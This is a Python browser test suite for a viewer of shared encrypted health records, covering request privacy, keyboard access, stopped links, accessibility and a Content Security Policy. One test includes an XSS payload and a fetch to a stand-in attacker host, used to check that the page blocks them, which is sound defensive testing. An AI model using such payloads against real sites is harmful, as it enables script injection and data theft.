"""The viewer in a real browser: what needs a policy, a layout, a keyboard or paper. The rest runs in Node."""

import json
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from typing import Any

import pypdfium2
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page
from tests.sharing_web.conftest import Site, attacked, crafted, document

from screening.services.wording import speaker
from screening.sharing import crypto, link

pytestmark = pytest.mark.browser

STARTING = ["v", "v.css", "v.js"]
PATIENCE_MS = 15_000
_words = speaker("en")


def say(key: str, **values: object) -> str:
    return _words(f"viewer.{key}", **values)


class Tab:
    """A page that remembers every request and every complaint."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.requests: list[Any] = []
        self.complaints: list[str] = []
        page.set_default_timeout(PATIENCE_MS)
        page.on("request", lambda asked: self.requests.append(asked))  # noqa: PLW0108 - Playwright marks it
        page.on("console", lambda said: self.complaints.append(said.text) if said.type == "error" else None)
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("dialog", lambda _: self.complaints.append("dialog"))

    def paths(self) -> list[str]:
        return [asked.url.split("?")[0].partition("://")[2].partition("/")[2] for asked in self.requests]

    def press(self, key: str) -> None:
        self.page.get_by_role("button", name=say(key), exact=True).click()

    def text(self) -> str:
        return self.page.locator("main").inner_text()

    def wait(self, text: str) -> None:
        self.page.get_by_text(text).first.wait_for()


Open = Callable[..., Tab]


@pytest.fixture
def tab(chromium: Browser) -> Iterator[Open]:
    with ExitStack() as opened:

        def open_(address: str = "about:blank", **options: Any) -> Tab:
            size = options.pop("viewport", {"width": 390, "height": 844})
            context = chromium.new_context(viewport=size, locale="en-US", **options)
            opened.callback(context.close)
            new = Tab(context.new_page())
            new.page.goto(address)
            return new

        yield open_


def views(site: Site, made: Any) -> int:
    return site.store.status(made.id, made.token).views


def test_a_link_is_opened_read_saved_printed_and_closed(live_site: Site, tab: Open, tmp_path: Any) -> None:
    made = live_site.share(document("answers"))
    here = tab()

    # Nothing before a press, also after a reload.
    here.page.goto(made.link)
    here.wait(say("intro"))
    here.page.reload()
    here.wait(say("intro"))
    here.page.wait_for_timeout(500)
    assert sorted(here.paths()) == sorted(2 * STARTING)
    assert views(live_site, made) == 0
    for asked in here.requests:
        assert {"referer", "cookie"} & asked.all_headers().keys() == set()
        assert made.key not in asked.url.partition("#")[0]

    # One press, also a double one, asks once; four requests, few bytes, no one else, no trace.
    here.requests.clear()
    here.page.get_by_role("button", name=say("show")).dblclick()
    here.wait(say("worst"))
    assert [asked.url.startswith(str(live_site.host.share_base)) for asked in here.requests] == [True]
    asked = here.requests[0]
    assert made.key not in asked.url + json.dumps(asked.all_headers())
    assert {"referer", "cookie"} & asked.all_headers().keys() == set()
    assert views(live_site, made) == 1

    # Words, strips and the figure; the focus at the top; the address still opens it.
    text = here.text()
    for words in (say("banner"), "Front of the knee, right", "Riverside Physical Therapy", "22.4 s"):
        assert words in text, words
    assert here.page.locator("svg.strip").count() == 11
    figure = here.page.get_by_label(say("figure_front", spot="Front of the knee, right"))
    box = figure.bounding_box()
    assert box
    assert box["width"] > 100
    assert here.page.evaluate("document.activeElement.tagName") == "H1"
    assert here.page.evaluate("location.hash").startswith("#shlink:/")

    with here.page.expect_download() as waiting:
        here.press("save")
    assert json.loads(waiting.value.path().read_text()) == document("answers")

    here.page.pdf(path=tmp_path / "print.pdf", format="A4", tagged=True)
    paper = pypdfium2.PdfDocument(tmp_path / "print.pdf")
    printed = "".join(page.get_textpage().get_text_range() for page in paper)
    host = str(live_site.host.share_base).removeprefix("http://")
    assert say("from_host", host=host).removesuffix(".") in printed
    assert "This link ends on" in printed
    assert say("save") not in printed
    assert made.key not in printed
    assert paper.is_tagged()

    here.press("close")
    here.wait(say("closed"))
    assert here.page.url == f"{live_site.host.share_base}/v"
    assert "knee" not in here.page.content().split("<main")[1]
    here.page.go_back()
    assert here.page.url == "about:blank"
    here.page.go_forward()
    assert "#" not in here.page.url
    assert here.complaints == []


def test_a_code_is_typed_and_everything_pressed_by_keyboard(live_site: Site, tab: Open) -> None:
    made = live_site.share(code="123456")
    here = tab(made.link)
    keys = here.page.keyboard
    here.wait(say("code_help"))

    keys.press("Tab")
    keys.type("999999")
    keys.press("Enter")
    here.wait(say("wrong_code", n=4))
    assert here.page.evaluate("document.activeElement.id") == "code"
    keys.type("123 456")
    keys.press("Enter")
    here.wait(say("tests"))

    assert here.page.locator("#status").inner_text() == say("opened")
    reached = set()
    for _ in range(4):
        keys.press("Tab")
        reached.add(here.page.evaluate("document.activeElement.textContent"))
        assert here.page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    assert {say("print"), say("save"), say("close")} <= reached


def test_a_stopped_link_stays_open_where_it_was_open_and_says_why_after_a_reload(
    live_site: Site, tab: Open
) -> None:
    made = live_site.share()
    reader, maker = tab(made.link), tab(made.stop)
    reader.press("show")
    reader.wait(say("tests"))

    assert sorted(maker.paths()) == STARTING
    maker.press("stop_count")
    maker.wait("It was opened once, on")
    maker.press("stop_button")
    maker.wait(say("stopped"))

    assert say("tests") in reader.text()
    reader.page.reload()
    reader.press("show")
    reader.wait(say("not_active"))
    assert "Riverside Physical Therapy" in reader.text()
    assert maker.complaints == []


def test_an_attack_stays_a_text_and_the_policy_stops_what_a_script_could_try(
    live_site: Site, tab: Open
) -> None:
    here = tab(live_site.share(attacked()).link)
    here.press("show")
    here.wait(say("tests"))

    assert "<img src=x onerror=alert(1)>" in here.text()
    assert here.page.locator("main img, main script, main iframe, main style").count() == 0
    assert here.complaints == []
    assert len(here.requests) == 4

    html = "() => { try { document.body.innerHTML = '<i></i>' } catch (error) { return error.name } }"
    assert here.page.evaluate(html) == "TypeError"
    away = "() => fetch('https://evil.example/s/x').then(() => 'left', (error) => error.name)"
    assert here.page.evaluate(away) == "TypeError"
    assert any("Content Security Policy" in each for each in here.complaints)


def test_a_huge_document_is_shown_all_the_same(live_site: Site, tab: Open) -> None:
    """Larger than any the store takes: the server's answer is replaced on its way."""
    said = document()
    said["entry"] += [
        {"resource": {"resourceType": "Observation", "code": {"text": f"Test {number}"}}}
        for number in range(2000)
    ]
    made = live_site.share()
    jwe = crypto.seal(json.dumps(said).encode(), link.decode(made.key))
    here = tab(made.link)
    here.page.route("**/s/*", lambda route: route.fulfill(body=jwe, content_type="application/jose"))

    here.press("show")

    here.wait("Test 1900")
    assert here.page.evaluate("document.documentElement.scrollWidth") == 390


def test_without_https_or_a_script_the_page_says_what_it_needs(live_site: Site, tab: Open) -> None:
    made = live_site.share()
    base = str(live_site.host.share_base)
    away = tab()
    away.page.route("http://hip.test/**", lambda route: route.fulfill(response=route.fetch(
        url=route.request.url.replace("http://hip.test", base)
    )))  # fmt: skip
    said = {**link.parse(made.link), "url": f"http://hip.test/s/{made.id}"}
    away.page.goto(f"http://hip.test/v#{link.bare(said)}")
    away.wait(say("no_https"))

    silent = tab(made.link, java_script_enabled=False)
    assert silent.page.locator("noscript").inner_text().endswith(say("no_script"))


STATES: dict[str, Callable[[Site], tuple[str, str]]] = {
    "start": lambda site: (site.share().link, ""),
    "code": lambda site: (site.share(code="1").link, say("need_code")),
    "opened": lambda site: (site.share(document("answers")).link, say("tests")),
    "damaged": lambda site: (site.share().link[:-9], ""),
    "not active": lambda site: (
        crafted(site, site.share(), url=f"{site.host.share_base}/s/{'A' * 43}"),
        say("not_active"),
    ),
    "stop": lambda site: (site.share().stop, ""),
    "paste": lambda site: (f"{site.host.share_base}/v", ""),
}


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_state_is_accessible_and_fits_a_small_phone(live_site: Site, tab: Open, scheme: str) -> None:
    # The policy of the page keeps axe out, too: it is switched off for the looking only.
    here = tab(viewport={"width": 320, "height": 700}, color_scheme=scheme, bypass_csp=True)
    found = {}
    for name, state in STATES.items():
        address, press_for = state(live_site)
        here.page.goto("about:blank")
        here.page.goto(address)
        here.page.locator("h1").wait_for()
        if press_for:
            here.press("show")
            here.wait(press_for)
        violations = [each["id"] for each in Axe().run(here.page).response["violations"]]
        found[name] = (
            violations,
            *here.page.evaluate(
                """() => {
              const root = document.documentElement
              const small = [...document.querySelectorAll("button, input")]
                .filter((each) => each.getBoundingClientRect().height < 48).length
              const wide = root.scrollWidth
              root.style.fontSize = "32px"
              const large = root.scrollWidth
              root.style.fontSize = ""
              return [small, wide, large]
            }"""
            ),
        )
    assert found == dict.fromkeys(STATES, ([], 0, 320, 320))
